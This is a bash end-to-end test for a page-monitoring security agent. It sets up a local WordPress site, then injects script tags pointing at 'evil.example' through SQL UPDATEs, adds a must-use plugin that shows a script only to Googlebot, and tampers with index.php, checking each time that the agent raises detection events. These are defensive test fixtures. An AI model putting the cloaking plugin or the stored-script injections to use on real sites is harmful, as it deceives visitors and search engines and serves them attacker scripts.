#!/usr/bin/env bash
# The page monitor end to end (docs/pages.md): Debian's WordPress on nginx + php-fpm with
# a MariaDB of the test's own (datadir and socket in $SCRATCH), installed by the test,
# guarded by the agent (restore mode) and watched as two [[page]]s: the home page,
# fetched as a browser and as Googlebot, and the first post, as a browser only, each
# every second. Nothing here touches a file of the site after its baseline:
#  - a normal post published through WordPress is no event;
#  - an SQL UPDATE of wp_posts that appends <script src="https://evil.example/x.js"> to
#    the first post is a page-injected event for both pages within one interval,
#    naming the URL and the script, and only once however many checks follow;
#  - a YouTube embed the site's owner adds is an event too, until `mamori pages accept`;
#  - cloaking: a must-use plugin of the site (part of its baseline) prints a script from
#    an option only when the User-Agent says Googlebot; an SQL INSERT of that option is
#    caught by the home page's Googlebot fetch and by no browser fetch;
#  - heal: [heal] on = ["page-injected"]: the health file goes with the first injection
#    and comes back once the page is clean again (recover_after);
#  - discovery: nginx's access log is a [[log]] and [pages] discovers from it: the Sample
#    Page, asked for by three addresses, is watched (and kept across a restart); the
#    login page, asked for by one address fifty times, is not;
#  - link: an SQL injection into the Sample Page (checked hourly) is seen when the guard
#    restores a file of the site, and its page-injected names that file-restored event.
source "$(dirname "$0")/lib.sh"

command -v nginx >/dev/null || fail "nginx not installed (tools/install-deps)"
source "$(dirname "$0")/web_lib.sh"
chmod 0755 "$SCRATCH"

step "a WordPress tree on a MariaDB of the test's, installed"
WWW=$SCRATCH/www
mkdir -p "$SCRATCH/web"
chmod 0755 "$SCRATCH/web"
# The blog's home page shows each post's full text (the theme's default is a summary,
# which strips tags): what is stored in a post is on the home page too.
wordpress_db "$WWW" 127.0.0.1 "mamori pages" \
  "set_theme_mod( 'display_excerpt_or_full_post', 'full' );"
# The site's own must-use plugin: prints a script whose URL an option holds, to
# Googlebot only. Harmless while the option is unset (the baseline); the attacker's
# SQL sets it.
mkdir -p "$WWW/wp-content/mu-plugins"
cat >"$WWW/wp-content/mu-plugins/seo-helper.php" <<'PLUGIN'
<?php
add_action( 'wp_head', function () {
	$ua  = isset( $_SERVER['HTTP_USER_AGENT'] ) ? $_SERVER['HTTP_USER_AGENT'] : '';
	$src = get_option( 'seo_helper_script' );
	if ( $src && stripos( $ua, 'Googlebot' ) !== false ) {
		echo '<script src="' . esc_url( $src ) . '"></script>' . "\n";
	}
} );
PLUGIN

step "nginx and php-fpm serving it"
start_php_fpm "$WWW"
start_nginx "$WWW"
HOME_URL=$WEB_URL/
POST_URL=$WEB_URL/?p=1
http_get "$HOME_URL" "$SCRATCH/home.html"
assert_contains "$(cat "$SCRATCH/home.html")" "Hello world!" "the home page shows the first post"
http_get "$POST_URL" "$SCRATCH/post.html"

step "the tree's baseline, and the agent watching both pages every second"
write_config "$WWW"
agent_config
HEALTH=$SCRATCH/health/ok
mkdir -p "$SCRATCH/health"
cat >>"$CONFIG" <<PAGES

[heal]
on = ["page-injected"]
health_file = "$HEALTH"
recover_after = 1

[ban]
backend = "none"

[[log]]
path = "$WEB_DIR/nginx-access.log"
root = "$WWW"

[pages]
base_url = "$WEB_URL"
discover = 3
interval = 3600
timeout = 5

[[page]]
url = "$HOME_URL"
interval = 1
user_agents = ["browser", "googlebot"]
timeout = 5

[[page]]
url = "$POST_URL"
interval = 1
timeout = 5
PAGES
mamori -q init
start_agent
baselines() { [[ $(grep -c 'baseline taken' "$AGENT_LOG") -ge 2 ]]; }
WAIT_EXPLAIN='cat "$AGENT_LOG"' wait_for "both pages' baselines" baselines
expect_exit 0 mamori pages list --json
assert_eq "[true, true]" "$(json '[p["baseline"]["elements"] > 0 for p in j["pages"]]')" \
  "both baselines hold active content"
assert_eq "[[], []]" "$(json '[p["new"] for p in j["pages"]]')" "nothing new"

# record_fetched URL: when the agent last fetched URL completely (ns since the epoch).
record_fetched() {
  python3 -c '
import hashlib, json, sys
h = hashlib.sha256(sys.argv[2].encode()).hexdigest()[:32]
print(json.load(open(sys.argv[1] + "/pages/" + h + ".json"))["current"]["fetched_ns"])' "$STATE" "$1"
}
# checked_since NS: both pages fetched completely after NS.
checked_since() {
  [[ $(record_fetched "$HOME_URL") -gt $1 && $(record_fetched "$POST_URL") -gt $1 ]]
}
# two_checks: waits until both pages were checked twice from now on.
two_checks() {
  local t
  t=$(date +%s%N)
  WAIT_SECONDS=15 WAIT_ON=$STATE/pages wait_for "a check of both pages" checked_since "$t"
  t=$(date +%s%N)
  WAIT_SECONDS=15 WAIT_ON=$STATE/pages wait_for "another check of both pages" checked_since "$t"
}
injected() { events 'e["event"]["action"] == "page-injected"'; }

assert_eq "ok" "$(cat "$HEALTH")" "the health file while the pages are clean"

step "a normal post, published through WordPress: no event"
cat >"$SCRATCH/post.php" <<POST
<?php
\$_SERVER['HTTP_HOST'] = '127.0.0.1';
require '$WWW/wp-load.php';
echo wp_insert_post( array( 'post_title' => 'Opening hours', 'post_status' => 'publish',
  'post_content' => 'We are open from nine to five. See https://example.org/ for more.' ) ), "\n";
POST
php "$SCRATCH/post.php" >/dev/null
http_get "$HOME_URL" "$SCRATCH/home2.html"
assert_contains "$(cat "$SCRATCH/home2.html")" "Opening hours" "the new post on the home page"
two_checks
assert_eq "" "$(injected)" "events after a normal post"

step "SQL injection stores a script in the first post: page-injected within one interval"
t0=$(date +%s%N)
sql wp -e "UPDATE wp_posts SET post_content = CONCAT(post_content,
  '<script src=\"https://evil.example/x.js\"></script>') WHERE ID = 1"
evil() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["value"] == "https://evil.example/x.js"'; }
both_evil() { [[ $(evil | wc -l) -ge 2 ]]; }
WAIT_SECONDS=15 WAIT_EXPLAIN='tail -n 20 "$AGENT_LOG"' wait_for "page-injected for both pages" both_evil
elapsed_ms=$(evil | python3 -c '
import json, sys, datetime
t0 = int(sys.argv[1]) / 1e9
ts = [datetime.datetime.fromisoformat(json.loads(l)["@timestamp"].replace("Z", "+00:00")).timestamp()
      for l in sys.stdin]
print(int((max(ts) - t0) * 1000))' "$t0")
echo "    page-injected for both pages ${elapsed_ms} ms after the UPDATE (interval 1000 ms)"
# One interval, plus one check's fetches (three of them) on a loaded machine.
[[ $elapsed_ms -le 3000 ]] || fail "page-injected came ${elapsed_ms} ms after the UPDATE"
assert_eq "['$HOME_URL', '$POST_URL']" "$(evil | python3 -c '
import json, sys
print(sorted(json.loads(l)["url"]["full"] for l in sys.stdin))')" "the pages named"
e=$(evil | sed -n 1p)
assert_eq "script https://evil.example 7 mamori.pages" "$(python3 -c '
import json, sys
e = json.loads(sys.argv[1])
print(e["mamori"]["page"]["element"], e["mamori"]["page"]["origin"], e["event"]["severity"], e["event"]["dataset"])' "$e")" \
  "the element, its origin, severity and dataset"
two_checks
two_checks
assert_eq 2 "$(evil | wc -l)" "page-injected events for the script (once per page)"
expect_exit 1 mamori pages list
assert_contains "$OUT" "new script (https://evil.example): https://evil.example/x.js" "pages list"
# [heal] on = ["page-injected"]: out of rotation (the agent passes it on at its tick).
drained() { [[ ! -e $HEALTH ]]; }
WAIT_SECONDS=5 wait_for "the health file to go" drained
down=$(events 'e["event"]["action"] == "node-unhealthy"')
assert_eq "page-injected" "$(json 'j["mamori"]["heal"]["reason"]' "$down")" "why the node is out"
assert_contains "$(evil)" "$(json 'j["mamori"]["heal"]["trigger"]["id"]' "$down")" \
  "node-unhealthy names a page-injected event"

step "cleaned up; then the owner embeds a video: an event until accepted"
sql wp -e "UPDATE wp_posts SET post_content = REPLACE(post_content,
  '<script src=\"https://evil.example/x.js\"></script>', '') WHERE ID = 1"
two_checks
expect_exit 0 mamori pages list
# Clean again: back in rotation after recover_after (1 s) and a clean verify.
healthy() { [[ $(cat "$HEALTH" 2>/dev/null) == ok ]]; }
WAIT_SECONDS=10 wait_for "the health file to come back" healthy
assert_contains "$(events 'e["event"]["action"] == "node-healthy"')" '"recovered": "verify-clean"' \
  "node-healthy"
sql wp -e "UPDATE wp_posts SET post_content = CONCAT(post_content,
  '<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\"></iframe>') WHERE ID = 1"
video() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["element"] == "iframe"'; }
video_post() { video | grep -qF "\"full\": \"$POST_URL\""; }
WAIT_SECONDS=15 wait_for "page-injected for the embed" video_post
expect_exit 0 mamori pages accept "$POST_URL"
assert_contains "$OUT" "(1 added, 0 removed)" "accept's summary"
expect_exit 2 mamori pages accept "$WEB_URL/not-a-page"
expect_exit 0 mamori pages accept "$HOME_URL"
expect_exit 0 mamori pages list --json
assert_eq "[[], []]" "$(json '[p["new"] for p in j["pages"]]')" "nothing new once accepted"
assert_eq '["accept", "accept"]' "$(json '[p["baseline"]["by"] for p in j["pages"]]')" "the baselines' origin"
before=$(video | wc -l)
two_checks
two_checks
assert_eq "$before" "$(video | wc -l)" "embed events after the accept"

step "cloaking: a script for Googlebot only, set by SQL, caught by the Googlebot fetch"
sql wp -e "INSERT INTO wp_options (option_name, option_value, autoload)
  VALUES ('seo_helper_script', 'https://cloak.example/seo.js', 'yes')"
curl -s -A 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' "$HOME_URL" >"$SCRATCH/bot.html"
assert_contains "$(cat "$SCRATCH/bot.html")" "https://cloak.example/seo.js" "what Googlebot gets"
curl -s "$HOME_URL" >"$SCRATCH/browser.html"
assert_not_contains "$(cat "$SCRATCH/browser.html")" "cloak.example" "what a browser gets"
cloak() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["origin"] == "https://cloak.example"'; }
cloaked() { [[ -n $(cloak) ]]; }
WAIT_SECONDS=15 WAIT_EXPLAIN='tail -n 20 "$AGENT_LOG"' wait_for "page-injected for the cloaked script" cloaked
two_checks
assert_eq "['$HOME_URL']" "$(cloak | python3 -c '
import json, sys
print([json.loads(l)["url"]["full"] for l in sys.stdin])')" "the cloaked script: the home page's event only"
assert_contains "$(cloak)" "Googlebot/2.1" "the fetch that saw it"

step "discovery: the Sample Page, asked for by three addresses, is watched; one address is not enough"
SAMPLE_URL=$WEB_URL/?page_id=2
for ip in 127.0.0.2 127.0.0.3 127.0.0.4; do
  curl -s -o /dev/null --interface "$ip" "$SAMPLE_URL#comments"
done
for i in $(seq 50); do curl -s -o /dev/null --interface 127.0.0.9 "$WEB_URL/wp-login.php"; done
discovered() { grep -q "page '$SAMPLE_URL' discovered" "$AGENT_LOG"; }
WAIT_EXPLAIN='tail -n 20 "$AGENT_LOG"' wait_for "the Sample Page discovered" discovered
sample_baseline() { grep -q "page '$SAMPLE_URL': baseline taken" "$AGENT_LOG"; }
wait_for "the Sample Page's baseline" sample_baseline
expect_exit 1 mamori pages list --json  # the cloaked script is still there
assert_eq "[\"$SAMPLE_URL\"]" "$(json '[p["url"] for p in j["pages"] if "discovered" in p]')" \
  "the discovered pages"
assert_not_contains "$(cat "$STATE/pages/discovered.json")" "wp-login" "what one address asked for"
expect_exit 1 mamori pages list
assert_contains "$OUT" "$SAMPLE_URL
  discovered" "pages list marks it"

step "a restart keeps the discovered page"
stop_agent
restarted=$(date +%s%N)
start_agent
rediscovered() { [[ $(grep -c "page '$SAMPLE_URL' discovered" "$AGENT_LOG") -ge 2 ]]; }
WAIT_SECONDS=5 wait_for "the Sample Page watched again" rediscovered
# Its check at start (it is due at once, then hourly) is over before the injection.
sample_checked() { [[ $(record_fetched "$SAMPLE_URL") -gt $restarted ]]; }
WAIT_SECONDS=15 WAIT_ON=$STATE/pages wait_for "the Sample Page checked after the restart" sample_checked

step "link: an injection seen by the check a guard restore asked for names the guard's event"
sql wp -e "UPDATE wp_posts SET post_content = CONCAT(post_content,
  '<script src=\"https://evil.example/page.js\"></script>') WHERE ID = 2"
page_js() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["value"] == "https://evil.example/page.js"'; }
two_checks  # the [[page]]s (every second) do not show the Sample Page; it is checked hourly
assert_eq "" "$(page_js)" "page-injected for the Sample Page before the guard acts"
echo "// tampered" >>"$WWW/index.php"
restored() { events 'e["event"]["action"] in ("file-restored", "file-quarantined") and e["file"]["path"] == "'"$WWW"'/index.php"'; }
linked() { [[ -n $(page_js) && -n $(restored) ]]; }
WAIT_SECONDS=15 WAIT_EXPLAIN='tail -n 5 "$AGENT_LOG"; events | tail -n 3' \
  wait_for "page-injected after the restore" linked
assert_eq "file-restored" "$(json 'j["event"]["action"]' "$(restored | sed -n 1p)")" "the guard's event"
assert_eq "$(json 'j["event"]["id"]' "$(restored | sed -n 1p)")" \
  "$(json 'j["mamori"]["related_event"]' "$(page_js)")" "page-injected names the file-restored event"
assert_eq "$SAMPLE_URL True" "$(json 'j["url"]["full"] + " " + str(j["mamori"]["page"]["discovered"])' "$(page_js)")" \
  "the discovered page's event"

step "every event is documented"
check_events
